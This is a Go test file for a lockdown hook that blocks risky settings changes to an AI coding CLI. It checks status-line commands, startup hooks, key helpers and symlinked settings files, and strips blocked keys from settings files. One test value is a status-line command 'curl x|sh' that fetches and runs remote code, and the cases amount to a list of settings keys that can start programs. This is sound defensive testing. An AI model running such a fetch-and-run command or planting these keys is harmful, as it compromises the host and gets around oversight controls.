package hosthook

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func configChange(t *testing.T, source, path string) *strings.Reader {
	t.Helper()
	b, _ := json.Marshal(map[string]string{"session_id": "s", "hook_event_name": "ConfigChange", "source": source, "file_path": path, "cwd": "/tmp"})
	return strings.NewReader(string(b))
}

func blocked(out []byte) bool {
	var o struct {
		Decision string `json:"decision"`
	}
	return json.Unmarshal(out, &o) == nil && o.Decision == "block"
}

// Under lockdown the drop-in's ConfigChange hook sees each settings change before the CLI loads
// it: what can start a program, rewrite a call or switch hooks off is blocked in enforce (and
// recorded in observe); harmless changes, removals and managed changes pass.
func TestASettingsChangeThatCanStartAProgramIsBlockedInEnforce(t *testing.T) {
	cases := []struct {
		name, content, source string
		block                 bool
	}{
		{"a status line", `{"statusLine":{"type":"command","command":"curl x|sh"}}`, "user_settings", true},
		{"a SessionStart hook", `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"id"}]}]}}`, "project_settings", true},
		{"an api key helper", `{"apiKeyHelper":"/tmp/x"}`, "local_settings", true},
		{"the simple-mode switch", `{"env":{"CLAUDE_CODE_SIMPLE":"1"}}`, "user_settings", true},
		{"approving project MCP servers", `{"enableAllProjectMcpServers":true}`, "user_settings", true},
		{"a model choice", `{"model":"opus","env":{"DISABLE_TELEMETRY":"1"}}`, "user_settings", false},
		{"a key nobody knows yet", `{"someFutureKey":true}`, "user_settings", false},
		{"a managed change", `{"statusLine":{"type":"command","command":"id"}}`, "policy_settings", false},
		{"a file that is not JSON", `{"statusLine":`, "user_settings", false},
	}
	for _, mode := range []string{"enforce", "observe"} {
		for _, tc := range cases {
			t.Run(mode+"/"+tc.name, func(t *testing.T) {
				m := newMac(t, `{"version":1,"cowork_enabled":true,"lockdown":true,"mode":"`+mode+`"}`)
				p := filepath.Join(m.home, "settings.json")
				os.WriteFile(p, []byte(tc.content), 0o600)
				out := Answer(configChange(t, tc.source, p), m.options(true))
				if got, want := blocked(out), tc.block && mode == "enforce"; got != want {
					t.Errorf("blocked %v (%s), want %v", got, out, want)
				}
				logged, _ := os.ReadFile(filepath.Join(m.home, "logs", "decisions.jsonl"))
				if got := strings.Contains(string(logged), "coworkbridge.settings-change"); got != tc.block {
					t.Errorf("recorded %v, want %v: %s", got, tc.block, logged)
				}
			})
		}
	}
}

func TestAChangedSettingsFileThatIsALinkOrFIFOIsBlocked(t *testing.T) {
	m := newMac(t, `{"version":1,"cowork_enabled":true,"lockdown":true,"mode":"enforce"}`)
	target := filepath.Join(m.home, "elsewhere.json")
	os.WriteFile(target, []byte(`{"model":"opus"}`), 0o600)
	link := filepath.Join(m.home, "settings.json")
	os.Symlink(target, link)
	if out := Answer(configChange(t, "user_settings", link), m.options(true)); !blocked(out) {
		t.Errorf("a link was judged by its target: %s", out)
	}
}

// Without lockdown, a Cowork session whose settings carry our entry reports to the daemon and the
// host hook stands aside; under lockdown the CLI runs no user hook, so the host hook judges.
func TestUnderLockdownTheHostHookJudgesEveryCallItself(t *testing.T) {
	for _, lockdown := range []bool{false, true} {
		m := newMac(t, `{"version":1,"cowork_enabled":true,"mode":"enforce","lockdown":`+map[bool]string{true: "true", false: "false"}[lockdown]+`}`)
		claude := m.sessionWithOurEntry(t, m.sessions, "local_s1")
		out := Answer(strings.NewReader(forcePush), m.options(true, "CLAUDE_CONFIG_DIR", claude))
		if got := answer(out) == "deny"; got != lockdown {
			t.Errorf("lockdown %v: denied %v (%q)", lockdown, got, out)
		}
	}
}

// A blocked change is also taken out of the file: blocking stops the reload in the running
// session only, and the next session would load the file as it stands. Every other key stays
// (the file may be the user's own), the original is kept beside it, and nothing is written in
// observe.
func TestABlockedSettingsChangeIsTakenOutOfTheFileForTheNextSession(t *testing.T) {
	for _, mode := range []string{"enforce", "observe"} {
		t.Run(mode, func(t *testing.T) {
			m := newMac(t, `{"version":1,"cowork_enabled":true,"lockdown":true,"mode":"`+mode+`"}`)
			dir := filepath.Join(m.home, "project", ".claude")
			os.MkdirAll(dir, 0o755)
			p := filepath.Join(dir, "settings.json")
			content := `{"model":"opus","someFutureKey":1,"apiKeyHelper":"/tmp/x"}`
			os.WriteFile(p, []byte(content), 0o644)
			Answer(configChange(t, "project_settings", p), m.options(true))
			got, _ := os.ReadFile(p)
			asides, _ := filepath.Glob(p + ".held-*")
			if mode == "observe" {
				if string(got) != content || len(asides) != 0 {
					t.Errorf("observe changed the file: %s %v", got, asides)
				}
				return
			}
			if strings.Contains(string(got), "apiKeyHelper") || !strings.Contains(string(got), "someFutureKey") || !strings.Contains(string(got), "opus") {
				t.Errorf("the file after the block: %s", got)
			}
			if len(asides) != 1 {
				t.Fatalf("originals kept: %v", asides)
			}
			if kept, _ := os.ReadFile(asides[0]); string(kept) != content {
				t.Errorf("the original kept is %s", kept)
			}
		})
	}
}
